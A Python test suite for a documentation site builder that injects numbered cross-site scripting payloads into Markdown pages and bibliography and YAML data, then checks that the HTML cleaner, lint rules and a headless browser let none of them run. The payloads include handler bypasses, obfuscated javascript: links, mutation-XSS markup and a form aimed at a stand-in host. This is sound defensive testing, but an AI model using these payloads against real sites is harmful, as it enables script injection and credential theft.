"""Whatever stands in Markdown or in the data, no page runs it, goes to it or fetches it; and whoever wrote it is told where.

One project holds every hole that is tried, each with a number of its own, and is built once with the rules silenced: what the
rules would stop must not get through without them either.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterable, Iterator
from pathlib import Path

import markdown
import pytest
from conftest import BuiltSite, build, copy_project, expect_none
from green import site_with
from lxml import etree, html
from playwright.sync_api import Browser

from pustaka import load
from pustaka.model import Assets
from pustaka.render.cleaning import clean, dropped
from pustaka.render.delivery import NO_FILE, Delivery, UnsafePage
from pustaka.rules import check
from pustaka.rules.pages import unsafe_markup

#: What is written on a page; in each, N becomes the hole's number.
MARKDOWN = {
    "a script": "<script>jahat(N)</script>",
    "a script in a line": "Kata <script>jahat(N)</script> kata.",
    "a script that begins in capitals": "<SCRIPT SRC=https://jahat.example/N></SCRIPT>",
    "a handler on a block": '<div onclick="jahat(N)">kata</div>',
    "a handler in a line": "Kata <b onclick='jahat(N)'>kata</b>.",
    "a handler without quotation marks": "Kata <b onclick=jahat(N)>kata</b>.",
    "a handler in a cell": "| a | b |\n|---|---|\n| a | <b onmouseover=jahat(N)>b</b> |",
    "a handler on an element of its own": "<details ontoggle=jahat(N) open>kata</details>",
    "a handler on a picture": "Kata <img src=x onerror=jahat(N)>.",
    "a handler as an attribute list": 'Kata *kata*{onclick="jahat(N)"}.',
    "a handler in a heading": '## Judul <b onclick="jahat(N)">kata</b> {#judul-N}',
    "a handler in a heading's attribute list": '## Judul {#tajuk-N onclick="jahat(N)"}',
    "a handler in a block's options": "/// note | Judul\n    attrs: {onclick: 'jahat(N)'}\n\nKata.\n///",
    "a handler in a block's title": "/// note | Judul <b onclick='jahat(N)'>kata</b>\nKata.\n///",
    "a style": "<style>body::after { content: 'jahat(N)' }</style>",
    "a style attribute": "Kata <b style=\"background: url('https://jahat.example/N')\">kata</b>.",
    "a style as an attribute list": "Kata *kata*{style=\"background: url('https://jahat.example/N')\"}.",
    "a link": "[kata](javascript:jahat(N))",
    "a link in capitals": "[kata](JaVaScRiPt:jahat(N))",
    "a link with a character reference": "[kata](&#106;avascript:jahat(N))",
    "a link with a reference for a tab": "[kata](java&Tab;script:jahat(N))",
    "a link with a space": "[kata](< javascript:jahat(N)>)",
    "a link of VBScript": "[kata](vbscript:jahat(N))",
    "a link to data": "[kata](data:text/html,jahat(N))",
    "a link of a scheme that is not known": "[kata](jahat-N:kata)",
    "a link that is set apart": "[kata][jahat-N]\n\n[jahat-N]: javascript:jahat(N)",
    "an address between angle brackets": "Kata <javascript:jahat(N)> kata.",
    "a link by an attribute list": "[kata](#main){href=javascript:jahat(N)}",
    "a link in HTML": 'Kata <a href="javascript:jahat(N)">kata</a>.',
    "a link in HTML with a control character": 'Kata <a href=" &#14; javascript:jahat(N)">kata</a>.',
    "a link in HTML with an end of line": 'Kata <a href="java&#10;script:jahat(N)">kata</a>.',
    "a picture's address": "![kata](javascript:jahat(N))",
    "a picture of another host": "![kata](https://jahat.example/N.png)",
    "a picture of another host without a scheme": "![kata](//jahat.example/N.png)",
    "a picture in HTML of another host": "Kata <img alt=kata src=https://jahat.example/N.png>.",
    "a drawing": '<svg onload="jahat(N)"><script>jahat(N)</script></svg>',
    "a drawing with a link": 'Kata <svg><a xlink:href="javascript:jahat(N)"><text>kata</text></a></svg>.',
    "a base": '<base href="https://jahat.example/N/">',
    "a refresh": '<meta http-equiv="refresh" content="9;url=https://jahat.example/N">',
    "a frame": '<iframe src="https://jahat.example/N"></iframe>',
    "a frame with a document": '<iframe srcdoc="<script>parent.jahat(N)</script>"></iframe>',
    "an object": '<object data="https://jahat.example/N"></object>',
    "an embedded thing": '<embed src="https://jahat.example/N">',
    "a form": '<form action="https://jahat.example/N"><input name="sandi"></form>',
    "a button": 'Kata <button formaction="javascript:jahat(N)">kata</button>.',
    "a style sheet": '<link rel="stylesheet" href="https://jahat.example/N.css">',
    "formulas that hide a handler": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=jahat(N)&gt;">',
    "a template": '<template shadowrootmode="open"><img src=x onerror=jahat(N)></template>',
    "a handler behind a null": "Kata <b\0onclick=jahat(N)>kata</b>.",
}

#: What is written into the data: the file, what stands there, and what takes its place.
DATA = {
    "a title": (
        "bibliography/references.bib",
        "title     = {Asset Based Community Development ({ABCD})}",
        "title     = {Asset <script>jahat(N)</script> <i onclick=jahat(N)>kata</i> <span style='color:red' onclick='jahat(N)'>kata</span>}",
    ),
    "a link in a title": (
        "bibliography/references.bib",
        "title        = {Memberdayakan Masyarakat Melalui Marketing Online}",
        r"title        = {Memberdayakan \href{javascript:jahat(N)}{Masyarakat} \url{javascript:jahat(N)}}",
    ),
    "an address of a work": (
        "bibliography/references.bib",
        "  pagetotal = {22},",
        "  pagetotal = {22},\n  url = {javascript:jahat(N)},\n  note = {<img src=x onerror=jahat(N)>},",
    ),
    "an address of a study": ("bibliography/references.bib", "@thesis{ramdhan2025,", "@thesis{ramdhan2025,\n  url = {javascript:jahat(N)},"),
    "a language of a work": (
        "bibliography/references.bib",
        "doi          = {10.26533/jmd.v1i2.175},\n  langid       = {indonesian},",
        "langid       = {id' onclick='jahat(N)},",
    ),
    "a DOI": ("bibliography/references.bib", "{10.19105/karsa.v14i2.121}", "{10.19105/karsa'><script>jahat(N)</script>}"),
    "an ORCID": ("bibliography/studies/kecamatan-cibiru.yml", "\nlanguage: id ", "\norcid: {ramdhan: 'javascript:jahat(N)'}\nlanguage: id "),
    "a section of a source": ("bibliography/studies/kecamatan-cibiru.yml", "Abstrak: Abstrak", "Abstrak: <script>jahat(N)</script>"),
    "a short title": ("bibliography/studies/kecamatan-cibiru.yml", "id: Kecamatan Cibiru", "id: <script>jahat(N)</script>"),
    "a keyword": ("bibliography/studies/kecamatan-cibiru.yml", "id: [interaksi sosial,", "id: ['\"><script>jahat(N)</script>',"),
    "a meaning": ("bibliography/glossary.yml", "id: Ringkasan pendek", "id: <script>jahat(N)</script> Ringkasan pendek"),
    "what a drawing says": ("bibliography/figures.yml", 'id: "Di kiri', 'id: "<script>jahat(N)</script> Di kiri'),
    "an erratum": ("bibliography/errata.yml", 'printed: "(t.t.)"', 'printed: "<script>jahat(N)</script>"'),
    "a report": ("bibliography/reports/sahabat-community.yml", "printed: M.Sc, 2019", "printed: <script>jahat(N)</script>"),
    "a word of the interface": ("bibliography/words.yml", "references: {id: Daftar rujukan,", "references: {id: <script>jahat(N)</script>,"),
    "a menu title of a page": ("docs/id/glossary.md", "menu: Istilah", "menu: <i onclick=jahat(N)>"),
    "a title of a page": ("docs/id/about.md", "title: ", "title: </title><script>jahat(N)</script>"),
    "a description of a page": ("docs/id/glossary.md", "description: ", "description: Kata \"'><script>jahat(N)</script> "),
}

#: What Markdown itself makes nothing of, and what this test's parser reads otherwise than a browser does (see the test with one).
HARMLESS = {"an address between angle brackets", "a handler behind a null", "formulas that hide a handler"}

HOLES = {name: number for number, name in enumerate([*MARKDOWN, *DATA], 1)}
each_hole = pytest.mark.parametrize("name", HOLES)
each_in_markdown = pytest.mark.parametrize("name", MARKDOWN)


def _numbered(text: str, name: str) -> str:
    return re.sub(r"\bN\b|(?<=-)N\b", str(HOLES[name]), text)


# -- What is dangerous -------------------------------------------------------------------------------------------------

_SAFE_SCHEMES = ("http:", "https:", "mailto:", "tel:")
_FETCHES = {"src", "srcset", "poster", "background", "data"}
_TAKES_OVER = {"base", "link", "form", "object", "embed", "iframe"}
_LINKS = {"href", "action", "formaction", "xlink:href", "cite", "ping"}


def dangers(tree: html.HtmlElement) -> Iterator[str]:
    """What in a page could run, send the reader to a script, or fetch from another host. Independent of the list that the site is made by."""
    for element in tree.iter(etree.Element):
        text = element.text or ""
        if element.tag in ("script", "style") and element.get("type") != "application/ld+json" and "jahat" in text:
            yield f"<{element.tag}>{text}"
        for name, value in element.attrib.items():
            address = re.sub(r"^[\0-\x20]+|[\t\r\n]", "", value).lower()
            scheme = re.match(r"[^/?#:]*:", address)
            is_script = name.startswith("on") or (name in ("srcdoc", "style") and "jahat" in value)
            leads_astray = name in _LINKS and scheme and not address.startswith(_SAFE_SCHEMES) and address != NO_FILE
            fetches = name in _FETCHES and (scheme or address.startswith(("//", "\\")))
            takes_over = "jahat.example" in address and (element.tag in _TAKES_OVER or name == "content")
            if is_script or leads_astray or fetches or takes_over:
                yield f"<{element.tag}> {name}={value}"


def numbers(found: Iterable[str]) -> set[int]:
    """The holes that dangers belong to."""
    return {int(number) for danger in found for number in re.findall(r"jahat(?:\(|\.example/|-)(\d+)", danger)}


# -- The project that holds them all -----------------------------------------------------------------------------------

#: A build that no rule stops.
UNCHECKED = """
from pustaka import rules
rules.check = lambda site: []
from mkdocs.__main__ import cli
cli(["build", "--quiet"])
"""


@pytest.fixture(scope="module")
def infected(tmp_path_factory) -> Path:
    """A copy of the project with every hole."""
    root = copy_project(tmp_path_factory.mktemp("infected") / "project")
    for name, (path, old, new) in DATA.items():
        text = (root / path).read_text("utf-8")
        assert old in text, f"{path} has no “{old}” any more: try the hole elsewhere"
        (root / path).write_text(text.replace(old, _numbered(new, name), 1), "utf-8")
    page = root / "docs/id/about.md"
    page.write_text(page.read_text("utf-8") + "".join(f"\n{_numbered(text, name)}\n" for name, text in MARKDOWN.items()), "utf-8")
    return root


@pytest.fixture(scope="module")
def built(infected: Path) -> tuple[Path, str]:
    """The site built from it, and what the build said."""
    command = [sys.executable, "-c", f"import sys; sys.path.insert(0, 'scripts'){UNCHECKED}"]
    done = subprocess.run(command, cwd=infected, capture_output=True, encoding="utf-8", timeout=120, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    return infected / "site", done.stdout + done.stderr


@pytest.fixture(scope="module")
def got_through(built) -> dict[int, list[str]]:
    """What is dangerous on the built pages, by hole; 0 has what belongs to none."""
    found: dict[int, list[str]] = {}
    for page in BuiltSite(built[0], "https://temuan.example/").all_pages:
        for danger in dangers(page.tree):
            for number in numbers([danger]) or {0}:
                found.setdefault(number, []).append(f"{page}: {danger}")
    return found


@each_hole
def test_nothing_gets_through(name: str, got_through):
    expect_none(got_through.get(HOLES[name], []))


def test_nothing_else_is_dangerous_either(got_through):
    expect_none(got_through.get(0, []))


@each_in_markdown
def test_without_the_cleaner_it_would_be_seen(name: str):
    """The test can fail: what Markdown makes of most holes is dangerous, and this test sees it. The others are harmless to begin with."""
    text = _numbered(MARKDOWN[name], name)
    made = markdown.markdown(text, extensions=["attr_list", "tables", "pymdownx.blocks.admonition"])
    seen = HOLES[name] in numbers(dangers(html.document_fromstring(made)))
    assert seen == (name not in HARMLESS)


def test_feeds_sitemap_and_data_for_machines_hold_no_such_address_either(built):
    faults = []
    for file in sorted(built[0].rglob("*.xml")):
        faults += [f"{file.name}: {value}" for value in etree.parse(file).xpath("//@href | //*[local-name()='loc']/text()") if not _is_web(value)]
    for page in BuiltSite(built[0], "https://temuan.example/").all_pages:
        for script in page.all("script[type=application/ld+json]"):
            faults += [f"{page}: {value}" for value in _addresses(json.loads(script.text)) if not _is_web(value)]
    expect_none(faults)


def _is_web(value: str) -> bool:
    return value.startswith(("https://", "http://"))


def _addresses(node: object) -> Iterator[str]:
    """The values in JSON-LD that stand for an address."""
    if isinstance(node, list):
        for item in node:
            yield from _addresses(item)
    elif isinstance(node, dict):
        yield from (value for name, value in node.items() if name in ("@id", "url", "license", "item") and isinstance(value, str))
        yield from _addresses([value for value in node.values() if not isinstance(value, str)])


#: Whatever a reader's hand could set off; the links that lead to a script.
TOUCH = """for (const one of document.querySelectorAll('main *'))
    for (const kind of ['mouseover', 'toggle', 'click']) if (!one.closest('a[href]')) one.dispatchEvent(new Event(kind))"""
LED_ASTRAY = "[...document.querySelectorAll('[href]')].map(link => link.protocol || '').filter(one => /script|data/.test(one))"


def test_in_a_browser_nothing_runs_even_without_the_policy(built, browser: Browser):
    """Chromium reads the pages as readers' browsers do. The page's own policy is set aside, so that the cleaning alone must do."""
    context = browser.new_context(bypass_csp=True)
    context.add_init_script("window.ran = []; window.jahat = number => ran.push(number)")
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    page = context.new_page()
    for name in ("id/about", "id/bibliography", "id/glossary", "id/abcd", "id/studies/kecamatan-cibiru", "id/studies/sahabat-community/references"):
        page.goto((built[0] / name / "index.html").as_uri())
        page.evaluate(TOUCH)
        assert page.evaluate("ran") == [], name
        assert page.evaluate(LED_ASTRAY) == [], name
    page.set_content("<b onclick=jahat(7)>kata</b><img src=https://jahat.example/7.png><script>jahat(8)</script>")
    page.locator("b").click()
    assert page.evaluate("ran") == [8, 7], "the test would not see it"
    assert [address for address in asked if "jahat.example" in address] == ["https://jahat.example/7.png"]
    context.close()


# -- Who wrote it is told ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [name for name in MARKDOWN if name not in {"a handler behind a null"}])
def test_the_rule_tells_where_it_stands(name: str):
    text = _numbered(MARKDOWN[name], name)
    site = site_with(id=f"Kata [@contoh2020].\n\n{text}")
    lines = site.page_at["docs/id/studies/contoh/findings.md"].source.text.split("\n")
    found = [finding for finding in unsafe_markup.findings(site) if finding.place.line > 6]
    assert found
    for finding in found:
        quoted = re.search("“(.+?)( …)?” may not stand", finding.message.text())[1]
        assert lines[finding.place.line - 1][finding.place.column - 1 :].startswith(quoted)


@pytest.mark.parametrize(
    "text",
    [
        "Kata <b>tebal</b>, H<sub>2</sub>O, <kbd>Ctrl</kbd>, a < b, 3 <4, x<y.",
        "[kata](https://contoh.example/?a=1:2) [surat](mailto:desa@contoh.example) [di sini](#panen) <https://contoh.example/>",
        '[lain](../index.md "Judul: kata") ![Kebun](kebun.jpg) ![Bagan](figure:abcd)',
        "`<script>` dan \\<script> dan `[a](javascript:x)`\n\n    <script>\n\n```html\n<script>\n```",
        "*kata*{lang=en} *kata*{.kelas #tanda} {{ glossary }} {a: b}",
        '<table><tr><th scope="col" colspan=2>a</th></tr></table>\n\n<details open><summary>a</summary>b</details>',
        "<!-- <script> --> <!-- pustaka: ignore P204, kata kami -->",
        "## Judul {#judul:a lang=en}\n\n/// note | Judul: kata\nkata\n///\n\n[a]: ../index.md",
    ],
)
def test_what_may_stand_is_let_alone(text: str):
    site = site_with(id=text)
    expect_none(str(finding) for finding in unsafe_markup.findings(site))


TOLD = {
    "a title": "E336",
    "an address of a work": "E306",
    "an address of a study": "E306",
    "a language of a work": "E327",
    "an ORCID": "S509",
}


@pytest.mark.parametrize("name", TOLD)
def test_the_rules_tell_of_data_that_is_no_address_and_no_language(name: str, judged):
    assert [finding for finding in judged if finding.code == TOLD[name] and f"jahat({HOLES[name]})" in finding.message.text()]


@pytest.fixture(scope="module")
def judged(infected: Path) -> list:
    site, faults = load.load(infected)
    expect_none(map(str, faults))
    return check(site)


@pytest.mark.parametrize(
    "path, old, new",
    [
        ("bibliography/terms.yml", "url: https://creativecommons.org/licenses/by-sa/4.0/", "url: javascript:jahat()"),
        ("bibliography/terms.yml", "deed-id: https://creativecommons.org/licenses/by-sa/4.0/deed.id", "deed-id: javascript:jahat()"),
        ("bibliography/glossary.yml", "{Asset Based Community Development: en}", "{Asset Based Community Development: 'en\" onclick=\"jahat()'}"),
        ("bibliography/glossary.yml", "see: abcd.md", "see: javascript:jahat().md"),
        ("bibliography/studies/kecamatan-cibiru.yml", "language: id", "language: id' onclick='jahat()"),
    ],
)
def test_a_record_that_could_become_a_script_is_not_even_read(path: str, old: str, new: str, project: Path):
    text = (project / path).read_text("utf-8")
    assert old in text
    (project / path).write_text(text.replace(old, new, 1), "utf-8")
    try:
        _, findings = load.load(project)
    except load.Faults as faults:
        findings = faults.findings
    assert [finding for finding in findings if finding.code == "F104" and "jahat" in finding.message.text()]


def test_what_the_rules_let_pass_is_left_out_and_the_strict_build_says_so(project: Path):
    page = project / "docs/id/about.md"
    page.write_text(page.read_text("utf-8") + "\nKata <script>jahat()</script>. <!-- pustaka: ignore P215, percobaan -->\n", "utf-8")
    code, said = build(project)
    assert code
    assert "docs/id/about.md: “<script>” may not stand on a page and was left out" in said
    assert not (project / "site").exists()


# -- The cleaner, and the last look ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "before, after, left_out",
    [
        ("<p id=a>kata</p>", '<p id="a">kata</p>', []),
        ("<p onclick=x id=a>kata</p>", '<p id="a">kata</p>', ['<p onclick="x">']),
        ("a<script>x</script>b", "ab", ["<script>"]),
        ("<u>a</u><u onclick=x>b</u>", "<u>a</u><u>b</u>", ['<u onclick="x">']),
        ('<a href="tel:1">a</a><a href="x:1">b</a>', '<a href="tel:1">a</a><a>b</a>', ['<a href="x:1">']),
        ('<img src="a.png"><img src="\\\\b/a.png">', '<img src="a.png"><img>', ['<img src="\\\\b/a.png">']),
        ("<details open>a</details>", '<details open="">a</details>', []),
    ],
)
def test_the_cleaner_keeps_and_names(before: str, after: str, left_out: list[str]):
    assert clean(before) == after
    assert dropped(before, after) == left_out


def test_a_template_cannot_send_a_script_either():
    delivery = Delivery(Assets("", "", ()), {})
    for part in ('<a href="java\nscript:x">a</a>', "<b onclick='x'>a</b>", '<img src="https://jahat.example/a.png">'):
        with pytest.raises(UnsafePage):
            delivery.page(f"<!doctype html><title>a</title><body>{part}")
    assert "kata" in delivery.page('<!doctype html><title>a</title><body><a href="../a/">kata</a> &lt;a href="javascript:x"&gt;')
